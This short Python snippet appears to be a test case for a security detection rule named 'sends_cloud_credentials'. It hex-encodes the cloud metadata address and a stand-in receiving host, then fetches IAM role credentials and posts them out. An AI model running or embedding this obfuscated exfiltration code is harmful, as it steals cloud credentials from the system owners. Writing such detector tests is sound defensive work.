# The metadata service's address and the receiving address written in hex: read as the addresses they decode to.
import urllib.request
_M = bytes.fromhex("687474703a2f2f3136392e3235342e3136392e3235342f6c61746573742f").decode()
_X = bytes.fromhex("687474703a2f2f3230332e302e3131332e392f63").decode()
# ruleid: sends_cloud_credentials
role = urllib.request.urlopen(_M + "meta-data/iam/security-credentials/").read().decode()
urllib.request.urlopen(_X, data=role.encode())
